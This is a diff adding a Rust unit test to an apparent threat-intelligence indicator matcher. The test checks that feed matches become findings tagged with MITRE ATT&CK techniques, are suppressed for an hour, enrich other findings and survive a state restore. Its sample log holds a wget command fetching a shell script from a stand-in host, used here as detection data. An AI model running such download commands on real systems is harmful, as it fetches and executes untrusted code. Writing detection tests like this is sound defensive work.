@@ -1234,6 +1234,37 @@ mod tests {
     }
 
     #[test]
+    fn hits_become_findings_once_an_hour_and_enrich_others() {
+        let store = FeedStore::new(vec![feed("lab", &[("l.txt", "203.0.113.5\nhttp://dl.example.net/x.sh\n")])], None);
+        let mut m = IocMatcher::new(store);
+        let ev = |secs: i64, raw: &str| {
+            let time = chrono::DateTime::from_timestamp(1_772_409_600 + secs, 0).unwrap();
+            crate::ingest::parse::json::record_event(Default::default(), time, "web1".into(), "x".into(), raw.into())
+        };
+        let mut other =
+            [crate::messages::Finding { src_ip: Some("203.0.113.5".into()), confidence: 0.5, ..Default::default() }];
+        let found = m.run(&[ev(0, "wget http://DL.example.net:80/x.sh from 203.0.113.5")], &mut other);
+        let kinds: Vec<(&str, &[String])> =
+            found.iter().map(|f| (f.intel[0].kind.as_str(), &f.techniques[..])).collect();
+        assert_eq!(kinds, [("url", &["T1105".to_string()][..]), ("ipv4", &["T1071".to_string()][..])]);
+        assert_eq!(found[0].tactics, ["TA0011"]);
+        assert_eq!(found[1].src_ip.as_deref(), Some("203.0.113.5"));
+        assert_eq!(found[0].entity.as_deref(), Some("url:http://dl.example.net/x.sh"));
+        assert_eq!(other[0].intel.len(), 1, "the batch's other findings are enriched");
+        assert_eq!(other[0].confidence, 0.9);
+        // Seen again within the hour: no new finding; after it: one.
+        assert!(m.run(&[ev(1800, "again 203.0.113.5")], &mut []).is_empty());
+        assert_eq!(m.run(&[ev(3700, "again 203.0.113.5")], &mut []).len(), 1);
+        // Its state survives a restore.
+        let delta = m.take_delta();
+        let mut again = IocMatcher::new(m.store().clone());
+        again
+            .restore(delta.into_iter().filter_map(|(k, v)| Some((k[STATE_PREFIX.len()..].to_string(), v?))).collect())
+            .unwrap();
+        assert!(again.run(&[ev(3800, "203.0.113.5")], &mut []).is_empty());
+    }
+
+    #[test]
     fn misp_attributes_with_to_ids() {
         let ev = r#"{"Event":{"info":"op x","Attribute":[
             {"type":"ip-dst","value":"203.0.113.9","to_ids":true},
